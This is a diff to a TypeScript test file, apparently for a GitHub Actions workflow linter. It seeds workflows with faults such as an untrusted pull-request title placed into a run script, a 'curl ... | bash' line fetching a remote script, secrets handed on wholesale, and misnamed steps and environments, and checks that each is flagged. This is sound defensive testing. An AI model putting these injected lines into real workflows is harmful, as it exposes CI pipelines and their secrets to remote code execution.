@@ -55,14 +55,14 @@ const anywhere: Fault[] = [
   ["credentials that nobody thought of", /^ +persist-credentials: false\n/m, "", /leaves its token/],
   [
     "what a stranger wrote, in a script",
-    /run: bun run/,
-    `run: echo \${{ github.event.pull_request.title }}; bun run`,
+    /(run|script): bun run/,
+    `$1: echo \${{ github.event.pull_request.title }}; bun run`,
     /puts .* into a script/,
   ],
   [
     "a script from the network",
-    /run: bun run/,
-    "run: curl -fsSL https://example.com/x.sh | bash; bun run",
+    /(run|script): bun run/,
+    "$1: curl -fsSL https://example.com/x.sh | bash; bun run",
     /just fetched/,
   ],
   [
@@ -91,11 +91,11 @@ const anywhere: Fault[] = [
   ],
   [
     "a step that is not there",
-    /run: bun run/,
-    `env:\n          X: \${{ steps.nobody.outputs.x }}\n        run: bun run`,
+    /^ {6}- name: /m,
+    `      - env:\n          X: \${{ steps.nobody.outputs.x }}\n        name: `,
     /speaks of nobody/,
   ],
-  ["an app's name", /run: bun run/, "run: test -d apps/shop && bun run", /names the app shop/],
+  ["an app's name", /(run|script): bun run/, "$1: test -d apps/shop && bun run", /names the app shop/],
   ["all secrets handed on", /^ {4}steps:/m, "    secrets: inherit\n    steps:", /hands on every secret/],
   ["what is no YAML", /^jobs:/m, "jobs: [", /cannot be read/],
 ];
@@ -257,6 +257,20 @@ const particular: Record<string, Fault[]> = {
       "",
       /bound to no environment/,
     ],
+  ],
+  "release.yml": [
+    ["an environment of another name", "name: npm", "name: npmjs", /bound to npmjs/],
+    [
+      "a mode that nobody tells",
+      "outputs.mode == 'publish'",
+      "outputs.mod == 'publish'",
+      /mode\.outputs\.mod, which/,
+    ],
+  ],
+  "feed.yml": [
+    ["an environment of another name", "name: github-pages", "name: pages", /bound to pages/],
+    ["a feed that is cut short", "cancel-in-progress: false", "cancel-in-progress: true", /cancels a deploy/],
+    ["a step of another name", "steps.publish.outputs", "steps.publsh.outputs", /speaks of publsh/],
   ],
   "security.yml": [
     [
